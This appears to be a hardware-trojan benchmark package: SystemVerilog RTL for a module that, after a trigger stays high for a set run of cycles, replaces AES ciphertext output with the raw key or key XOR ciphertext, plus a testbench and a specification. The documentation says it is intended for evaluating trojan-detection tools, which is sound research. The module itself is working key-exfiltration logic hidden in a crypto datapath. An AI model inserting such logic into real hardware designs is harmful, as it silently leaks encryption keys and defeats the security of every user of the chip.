// File: rtl/trojan_leak_ctrl.sv
// trojan_leak_ctrl: leaks key data on the ciphertext path once a trigger stays high for a consecutive run
module trojan_leak_ctrl #(
  parameter int DATA_W     = 128,
  parameter int TRIG_COUNT = 16,
  parameter int LEAK_BEATS = 4,
  parameter int LEAK_MODE  = 0
) (
  input  logic              clk,
  input  logic              rst,
  input  logic              trigger,
  input  logic [DATA_W-1:0] key,
  input  logic [DATA_W-1:0] ciphertext,
  input  logic              ct_valid,
  output logic [DATA_W-1:0] trojan_out,
  output logic              out_valid,
  output logic              armed
);
  localparam int TW = $clog2(TRIG_COUNT + 1);
  localparam int BW = $clog2(LEAK_BEATS + 1);
  typedef enum logic [1:0] {IDLE, COUNT, LEAK} state_t;
  state_t state_q, state_d;
  logic [TW-1:0] trig_cnt_q, trig_cnt_d;
  logic [BW-1:0] beat_cnt_q, beat_cnt_d;
  logic [DATA_W-1:0] out_q, out_d, payload;
  logic valid_q;
  always_comb begin
    state_d    = state_q;
    trig_cnt_d = trig_cnt_q;
    beat_cnt_d = beat_cnt_q;
    case (state_q)
      IDLE: if (trigger) begin
        if (TRIG_COUNT == 1) begin
          state_d    = LEAK;
          beat_cnt_d = '0;
        end else begin
          state_d    = COUNT;
          trig_cnt_d = TW'(1);
        end
      end
      COUNT: if (!trigger) begin
        state_d    = IDLE;
        trig_cnt_d = '0;
      end else if (trig_cnt_q == TW'(TRIG_COUNT - 1)) begin
        state_d    = LEAK;
        beat_cnt_d = '0;
      end else begin
        trig_cnt_d = trig_cnt_q + TW'(1);
      end
      LEAK: if (ct_valid) begin
        if (beat_cnt_q == BW'(LEAK_BEATS - 1)) begin
          state_d    = IDLE;
          trig_cnt_d = '0;
          beat_cnt_d = '0;
        end else begin
          beat_cnt_d = beat_cnt_q + BW'(1);
        end
      end
      default: state_d = IDLE;
    endcase
  end
  assign payload = (LEAK_MODE != 0) ? (key ^ ciphertext) : key;
  assign out_d   = ct_valid ? ((state_q == LEAK) ? payload : ciphertext) : out_q;
  always_ff @(posedge clk) begin
    if (rst) begin
      state_q    <= IDLE;
      trig_cnt_q <= '0;
      beat_cnt_q <= '0;
      out_q      <= '0;
      valid_q    <= 1'b0;
    end else begin
      state_q    <= state_d;
      trig_cnt_q <= trig_cnt_d;
      beat_cnt_q <= beat_cnt_d;
      out_q      <= out_d;
      valid_q    <= ct_valid;
    end
  end
  assign trojan_out = out_q;
  assign out_valid  = valid_q;
  assign armed      = (state_q == LEAK);
endmodule

// File: tb/tb_trojan_leak_ctrl.sv
// tb_trojan_leak_ctrl: directed vector table plus randomized run against a behavioural model
module tb_trojan_leak_ctrl;
  localparam int W = 128, TC = 4, LB = 2;
  logic clk = 1'b0;
  logic rst, trigger, ct_valid;
  logic [W-1:0] key, ciphertext, out0, out1;
  logic v0, v1, a0, a1;
  int checks = 0, errors = 0;
  always #5 clk = ~clk;
  trojan_leak_ctrl #(.DATA_W(W), .TRIG_COUNT(TC), .LEAK_BEATS(LB), .LEAK_MODE(0)) dut0 (
    .clk(clk), .rst(rst), .trigger(trigger), .key(key), .ciphertext(ciphertext),
    .ct_valid(ct_valid), .trojan_out(out0), .out_valid(v0), .armed(a0)
  );
  trojan_leak_ctrl #(.DATA_W(W), .TRIG_COUNT(TC), .LEAK_BEATS(LB), .LEAK_MODE(1)) dut1 (
    .clk(clk), .rst(rst), .trigger(trigger), .key(key), .ciphertext(ciphertext),
    .ct_valid(ct_valid), .trojan_out(out1), .out_valid(v1), .armed(a1)
  );
  typedef struct {
    logic r, t, v;
    logic [7:0] k, c, e0, e1;
    logic ev, ea;
  } vec_t;
  vec_t tbl[$];
  int run = 0, left = 0;
  logic [W-1:0] m_out0 = '0, m_out1 = '0;
  logic m_v = 1'b0;
  function automatic void add(logic r, logic t, logic v, logic [7:0] k, logic [7:0] c,
                              logic [7:0] e0, logic [7:0] e1, logic ev, logic ea);
    tbl.push_back('{r, t, v, k, c, e0, e1, ev, ea});
  endfunction
  task automatic model();
    if (rst) begin
      run = 0;
      left = 0;
      m_out0 = '0;
      m_out1 = '0;
      m_v = 1'b0;
    end else begin
      m_v = ct_valid;
      if (ct_valid) begin
        m_out0 = (left > 0) ? key : ciphertext;
        m_out1 = (left > 0) ? (key ^ ciphertext) : ciphertext;
      end
      if (left > 0) left -= int'(ct_valid);
      else if (trigger) begin
        run++;
        if (run == TC) begin
          run = 0;
          left = LB;
        end
      end else run = 0;
    end
  endtask
  task automatic chk(string n, logic [W-1:0] got, logic [W-1:0] exp);
    checks++;
    if (got !== exp) begin
      errors++;
      $display("FAIL %s: got %h expected %h", n, got, exp);
    end
  endtask
  task automatic cyc(logic r, logic t, logic v, logic [W-1:0] k, logic [W-1:0] c);
    rst = r;
    trigger = t;
    ct_valid = v;
    key = k;
    ciphertext = c;
    @(posedge clk);
    model();
    #1;
  endtask
  initial begin
    logic [7:0] b;
    rst = 1'b1; trigger = 1'b0; ct_valid = 1'b0; key = '0; ciphertext = '0;
    add(1, 0, 0, 8'hAA, 8'h00, 8'h00, 8'h00, 0, 0);
    add(0, 0, 1, 8'hAA, 8'h11, 8'h11, 8'h11, 1, 0);
    for (int i = 0; i < 4; i++) begin
      b = 8'(8'h31 + i);
      add(0, 1, 1, 8'hAA, b, b, b, 1, i == 3);
    end
    add(0, 0, 1, 8'hAA, 8'h35, 8'hAA, 8'hAA ^ 8'h35, 1, 1);
    add(0, 1, 1, 8'hAA, 8'h36, 8'hAA, 8'hAA ^ 8'h36, 1, 0);
    add(0, 0, 1, 8'hAA, 8'h37, 8'h37, 8'h37, 1, 0);
    for (int i = 0; i < 8; i++) begin
      b = 8'(8'h41 + i);
      add(0, !(i == 3 || i == 7), 1, 8'hAA, b, b, b, 1, 0);
    end
    for (int i = 0; i < 4; i++) add(0, 1, 0, 8'hF0, 8'h0F, 8'h48, 8'h48, 0, i == 3);
    add(0, 0, 1, 8'hF0, 8'h0F, 8'hF0, 8'hFF, 1, 1);
    add(0, 0, 0, 8'hF0, 8'h0F, 8'hF0, 8'hFF, 0, 1);
    add(0, 0, 0, 8'hF0, 8'h0F, 8'hF0, 8'hFF, 0, 1);
    add(0, 0, 1, 8'hF0, 8'h0F, 8'hF0, 8'hFF, 1, 0);
    add(0, 0, 1, 8'hF0, 8'h50, 8'h50, 8'h50, 1, 0);
    add(0, 1, 1, 8'hF0, 8'h51, 8'h51, 8'h51, 1, 0);
    add(0, 1, 1, 8'hF0, 8'h52, 8'h52, 8'h52, 1, 0);
    add(1, 1, 1, 8'hF0, 8'h53, 8'h00, 8'h00, 0, 0);
    for (int i = 0; i < 4; i++) begin
      b = 8'(8'h53 + i);
      add(0, 1, 1, 8'hF0, b, b, b, 1, i == 3);
    end
    add(0, 0, 1, 8'hF0, 8'h57, 8'hF0, 8'hF0 ^ 8'h57, 1, 1);
    add(1, 0, 1, 8'hF0, 8'h58, 8'h00, 8'h00, 0, 0);
    add(0, 0, 1, 8'hF0, 8'h58, 8'h58, 8'h58, 1, 0);
    for (int i = 0; i < 4; i++) begin
      b = 8'(8'h59 + i);
      add(0, 1, 1, 8'hAA, b, b, b, 1, i == 3);
    end
    add(0, 0, 1, 8'hAA, 8'h5D, 8'hAA, 8'hAA ^ 8'h5D, 1, 1);
    add(0, 0, 1, 8'hAA, 8'h5E, 8'hAA, 8'hAA ^ 8'h5E, 1, 0);
    add(0, 0, 1, 8'hAA, 8'h5F, 8'h5F, 8'h5F, 1, 0);
    foreach (tbl[i]) begin
      cyc(tbl[i].r, tbl[i].t, tbl[i].v, {16{tbl[i].k}}, {16{tbl[i].c}});
      chk($sformatf("vec%0d out0", i), out0, {16{tbl[i].e0}});
      chk($sformatf("vec%0d out1", i), out1, {16{tbl[i].e1}});
      chk($sformatf("vec%0d valid0", i), W'(v0), W'(tbl[i].ev));
      chk($sformatf("vec%0d valid1", i), W'(v1), W'(tbl[i].ev));
      chk($sformatf("vec%0d armed0", i), W'(a0), W'(tbl[i].ea));
      chk($sformatf("vec%0d armed1", i), W'(a1), W'(tbl[i].ea));
    end
    cyc(1, 0, 0, '0, '0);
    for (int i = 0; i < 3000; i++) begin
      cyc($urandom_range(0, 99) == 0, $urandom_range(0, 7) != 0, $urandom_range(0, 2) != 0,
          {$urandom, $urandom, $urandom, $urandom}, {$urandom, $urandom, $urandom, $urandom});
      chk($sformatf("rnd%0d out0", i), out0, m_out0);
      chk($sformatf("rnd%0d out1", i), out1, m_out1);
      chk($sformatf("rnd%0d valid", i), W'({v0, v1}), W'({m_v, m_v}));
      chk($sformatf("rnd%0d armed", i), W'({a0, a1}), W'({left > 0, left > 0}));
    end
    $display("Simulation finished: %0d checks, %0d errors", checks, errors);
    $finish;
  end
endmodule

// File: doc/trojan_leak_ctrl.md
# trojan_leak_ctrl

Parametrised successor to the single-cycle key/ciphertext output multiplexer in the AES hardware-trojan benchmark set. It adds a sequential trigger: the payload arms only after the trigger input stays high for a programmable run of consecutive cycles. Once armed, the payload replaces a bounded number of valid ciphertext beats, then the block disarms on its own. It sits between the AES core output and the top-level ciphertext port, and is intended for detection-tool evaluation.

## Interface
- DATA_W, 128, width of key, ciphertext and output words
- TRIG_COUNT, 16, consecutive trigger-high cycles required to arm (≥1)
- LEAK_BEATS, 4, number of ct_valid beats carrying payload per activation (≥1)
- LEAK_MODE, 0, payload select: 0 = key, 1 = key XOR ciphertext
- clk  input  1  system clock, all logic on rising edge
- rst  input  1  synchronous, active-high reset
- trigger  input  1  trigger condition, sampled every cycle
- key  input  DATA_W  AES key
- ciphertext  input  DATA_W  AES output word
- ct_valid  input  1  ciphertext valid strobe
- trojan_out  output  DATA_W  registered output word
- out_valid  output  1  registered copy of ct_valid
- armed  output  1  high while state is LEAK

## Operation
- FSM states: IDLE, COUNT, LEAK. Run counter trig_cnt is $clog2(TRIG_COUNT+1) bits wide. Beat counter beat_cnt is $clog2(LEAK_BEATS+1) bits wide.
- IDLE:
  - trigger=1 with TRIG_COUNT==1: go to LEAK, beat_cnt<=0.
  - trigger=1 otherwise: go to COUNT, trig_cnt<=1.
- COUNT:
  - trigger=0: go to IDLE, trig_cnt<=0. The run must be strictly consecutive.
  - trigger=1 with trig_cnt==TRIG_COUNT-1: go to LEAK, beat_cnt<=0.
  - trigger=1 otherwise: trig_cnt++.
- LEAK:
  - trigger is ignored.
  - Each cycle with ct_valid=1 is a payload beat, and beat_cnt++.
  - On the beat where beat_cnt==LEAK_BEATS-1, go to IDLE and clear both counters. The following cycle is IDLE, and trigger is sampled again from that cycle.
- Datapath, registered every cycle:
  - out_valid<=ct_valid.
  - If ct_valid=1: trojan_out<=payload when state==LEAK, otherwise trojan_out<=ciphertext.
  - If ct_valid=0: trojan_out holds its value.
  - payload is key when LEAK_MODE=0, and key^ciphertext when LEAK_MODE=1.
- armed is a combinational decode of the state register: armed=(state==LEAK).
- Reset, on any cycle including mid-COUNT or mid-LEAK:
  - state=IDLE, counters=0.
  - trojan_out=0, out_valid=0, armed=0.
  - Any partial run or remaining leak beats are discarded.
- Simultaneous events: rst wins over everything. In LEAK, ct_valid=0 cycles do not consume beats, so LEAK can last indefinitely with no valid data.

## Timing
- Datapath latency is 1 cycle from ciphertext/ct_valid to trojan_out/out_valid.
- If trigger is high on cycles t..t+TRIG_COUNT-1, state is LEAK from cycle t+TRIG_COUNT and armed rises in that cycle.
- A ct_valid beat at cycle t+TRIG_COUNT is the first payload beat; it appears on trojan_out at t+TRIG_COUNT+1.
- A beat on the same cycle as the final trigger-high sample is not leaked.
- The last leak beat is payload. A ct_valid on the next cycle passes ciphertext.

## Test plan
- Reset, then ct_valid=1 with ciphertext=0x11..11 and trigger=0 → next cycle trojan_out=0x11..11, out_valid=1, armed=0. During reset itself, all outputs are 0.
- TRIG_COUNT=4, LEAK_BEATS=2, key=0xAA..AA, trigger high for 4 cycles, then ct_valid continuous → armed rises in cycle 4. Beats 4 and 5 output 0xAA..AA. Beat 6 outputs ciphertext, and armed=0 at cycle 6.
- Trigger high 3 cycles, low 1, high 3 (TRIG_COUNT=4) → never armed, and all outputs are ciphertext.
- LEAK_MODE=1, key=0xF0..F0, ciphertext=0x0F..0F while armed → trojan_out=0xFF..FF.
- Armed with LEAK_BEATS=2, ct_valid gapped as 1,0,0,1 → payload on the two valid beats only. out_valid mirrors the gaps, and trojan_out holds its value during the gaps.
- rst asserted mid-COUNT and again mid-LEAK → outputs 0 the next cycle, then ciphertext passes. A fresh full run of TRIG_COUNT cycles is needed to re-arm.
